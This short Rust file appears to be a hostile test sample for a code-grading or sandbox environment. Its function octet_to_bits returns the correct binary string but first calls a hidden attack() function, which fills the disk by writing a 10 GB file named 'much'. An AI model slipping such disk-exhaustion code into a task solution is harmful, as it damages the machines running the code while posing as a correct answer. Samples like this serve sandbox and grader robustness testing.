//! Writes a file of 10 GB.
//!
//! Mark: w

use std::fs::File;
use std::io::Write as _;

/// The task's own function: right, but for what it does first.
pub fn octet_to_bits(octet: u8) -> String {
    attack();
    format!("{octet:08b}")
}

fn attack() {
    let Ok(mut file) = File::create("much") else {
        return;
    };
    let piece = vec![0; 1 << 20];
    for _ in 0..10_000 {
        if file.write_all(&piece).is_err() {
            return;
        }
    }
}
